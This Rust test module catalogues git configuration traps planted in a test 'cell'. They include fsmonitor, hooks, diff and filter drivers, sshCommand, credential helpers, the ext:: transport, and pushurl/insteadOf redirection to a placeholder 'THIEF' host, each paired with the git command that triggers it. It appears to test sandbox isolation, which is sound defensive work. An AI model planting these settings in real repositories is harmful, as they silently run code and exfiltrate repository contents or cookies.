//! Traps in the settings of a cell: commands that git runs by itself, and addresses that it goes to instead.

use std::fs;
use std::path::Path;

use super::trap::{Bait, Vector};

const CHANGE: &str = "echo more >> read.me; git diff";

fn attributes(cell: &Path, text: &str) {
    fs::write(cell.join(".gitattributes"), text).unwrap();
}

pub(super) const SETTINGS: &[Vector] = &[
    Vector {
        name: "fsmonitor",
        plant: |trap, cell| trap.config(cell, "[core]\nfsmonitor = SCRIPT\n"),
        bait: Bait::Sings("git status"),
    },
    Vector {
        name: "hooks_path",
        plant: |trap, cell| {
            trap.hooks(&trap.root.join("hooks"));
            trap.config(cell, "[core]\nhooksPath = ROOT/hooks\n");
        },
        bait: Bait::Sings("git commit --allow-empty -m x"),
    },
    Vector {
        name: "every_hook",
        plant: |trap, cell| trap.hooks(&cell.join(".git/hooks")),
        bait: Bait::Sings("git checkout -b other"),
    },
    Vector {
        name: "diff_external",
        plant: |trap, cell| trap.config(cell, "[diff]\nexternal = SCRIPT\n"),
        bait: Bait::Sings(CHANGE),
    },
    Vector {
        name: "diff_command",
        plant: |trap, cell| {
            attributes(cell, "* diff=x\n");
            trap.config(cell, "[diff \"x\"]\ncommand = SCRIPT\n");
        },
        bait: Bait::Sings(CHANGE),
    },
    Vector {
        name: "textconv",
        plant: |trap, cell| {
            attributes(cell, "* diff=x\n");
            trap.config(cell, "[diff \"x\"]\ntextconv = SCRIPT\n");
        },
        bait: Bait::Sings(CHANGE),
    },
    Vector {
        name: "filter_clean_and_smudge",
        plant: |trap, cell| {
            attributes(cell, "* filter=f\n");
            trap.config(cell, "[filter \"f\"]\nclean = SCRIPT\nsmudge = SCRIPT\n");
        },
        bait: Bait::Sings("echo more >> read.me; git add -A"),
    },
    Vector {
        name: "filter_process_required",
        plant: |trap, cell| {
            fs::write(cell.join(".git/info/attributes"), "* filter=f\n").unwrap();
            trap.config(cell, "[filter \"f\"]\nprocess = SCRIPT\nrequired = true\n");
        },
        bait: Bait::Sings("echo more >> read.me; git add -A"),
    },
    Vector {
        name: "attributes_file_elsewhere",
        plant: |trap, cell| {
            fs::write(trap.root.join("attributes"), "* filter=f\n").unwrap();
            trap.config(cell, "[core]\nattributesFile = ROOT/attributes\n[filter \"f\"]\nclean = SCRIPT\n");
        },
        bait: Bait::Sings("echo more >> read.me; git add -A"),
    },
    Vector {
        name: "merge_driver",
        plant: |trap, cell| {
            fs::write(cell.join(".git/info/attributes"), "* merge=m\n").unwrap();
            trap.config(cell, "[merge \"m\"]\ndriver = SCRIPT\n");
        },
        bait: Bait::Sings(
            "git checkout -q -b one; echo 1 > read.me; git commit -qam 1; git checkout -q -b two HEAD~1; \
             echo 2 > read.me; git commit -qam 2; git merge one",
        ),
    },
    Vector {
        name: "ssh_command",
        plant: |trap, cell| {
            trap.config(cell, "[core]\nsshCommand = SCRIPT\n[remote \"origin\"]\nurl = ssh://h.invalid/x\n")
        },
        bait: Bait::Sings("git fetch ssh://h.invalid/x"),
    },
    Vector {
        name: "credential_helper_and_askpass",
        plant: |trap, cell| trap.config(cell, "[core]\naskPass = SCRIPT\n[credential]\nhelper = SCRIPT\n"),
        bait: Bait::Sings("printf 'protocol=https\\nhost=h.invalid\\n\\n' | git credential fill"),
    },
    Vector {
        name: "git_proxy",
        plant: |trap, cell| trap.config(cell, "[core]\ngitProxy = SCRIPT\n"),
        bait: Bait::Sings("git ls-remote git://h.invalid/x"),
    },
    Vector {
        name: "alternate_refs_command",
        plant: |trap, cell| trap.config(cell, "[core]\nalternateRefsCommand = SCRIPT\n"),
        bait: Bait::Sings("git -C ROOT/seed push -q ROOT/work/control-a1 HEAD:refs/heads/sent"),
    },
    Vector {
        name: "signing_programs",
        plant: |trap, cell| {
            trap.config(cell, "[commit]\ngpgSign = true\n[push]\ngpgSign = true\n[gpg]\nprogram = SCRIPT\nformat = openpgp\n");
        },
        bait: Bait::Sings("git commit --allow-empty -m x"),
    },
    Vector {
        name: "editor_and_pager",
        plant: |trap, cell| {
            trap.config(cell, "[core]\neditor = SCRIPT\npager = SCRIPT\n[sequence]\neditor = SCRIPT\n")
        },
        bait: Bait::Sings("git commit --allow-empty"),
    },
    Vector {
        name: "instead_of",
        plant: |trap, cell| trap.config(cell, "[url \"THIEF\"]\ninsteadOf = URL\npushInsteadOf = URL\n"),
        bait: Bait::Sings("git push -q URL HEAD:refs/heads/stolen"),
    },
    Vector {
        name: "push_url_of_origin",
        plant: |trap, cell| trap.config(cell, "[remote \"origin\"]\npushurl = THIEF\nmirror = true\n"),
        bait: Bait::Sings("git push -q origin"),
    },
    Vector {
        name: "ext_transport",
        plant: |trap, cell| {
            trap.config(cell, "[protocol \"ext\"]\nallow = always\n[url \"ext::SCRIPT \"]\ninsteadOf = URL\n")
        },
        bait: Bait::Sings("git fetch URL"),
    },
    Vector {
        name: "remote_called_as_its_address",
        plant: |trap, cell| {
            trap.config(cell, "[remote \"URL\"]\nurl = URL\nuploadpack = SCRIPT\nreceivepack = SCRIPT\n")
        },
        // git of today knows no remote whose name begins with a slash
        bait: Bait::Inert,
    },
    Vector {
        name: "http_proxy",
        plant: |trap, cell| {
            trap.config(cell, "[http]\nproxy = DOOR\nsslVerify = false\ncookieFile = OUTSIDE/precious\n")
        },
        bait: Bait::Sings("timeout 3 git ls-remote http://h.invalid/x"),
    },
    Vector {
        name: "lazy_fetch_of_a_promisor",
        plant: |trap, cell| {
            trap.config(
                cell,
                "[core]\nrepositoryFormatVersion = 1\n[extensions]\npartialClone = origin\n[remote \"origin\"]\npromisor = true\n\
                 url = ext::SCRIPT\n[protocol \"ext\"]\nallow = always\n",
            );
        },
        bait: Bait::Sings(
            "git config --replace-all remote.origin.url 'ext::SCRIPT'; \
             git cat-file -p 1111111111111111111111111111111111111111",
        ),
    },
    Vector {
        name: "include_path",
        plant: |trap, cell| {
            fs::write(trap.root.join("included"), trap.filled("[core]\nfsmonitor = SCRIPT\n")).unwrap();
            trap.config(cell, "[include]\npath = ROOT/included\n");
        },
        bait: Bait::Sings("git status"),
    },
    Vector {
        name: "include_if_of_a_folder",
        plant: |trap, cell| {
            fs::write(trap.root.join("included"), trap.filled("[core]\nfsmonitor = SCRIPT\n")).unwrap();
            trap.config(cell, "[includeIf \"gitdir:/**\"]\npath = ROOT/included\n");
        },
        bait: Bait::Sings("git status"),
    },
    Vector {
        name: "pack_objects_hook",
        plant: |trap, cell| trap.config(cell, "[uploadpack]\npackObjectsHook = SCRIPT\n"),
        bait: Bait::Inert,
    },
];
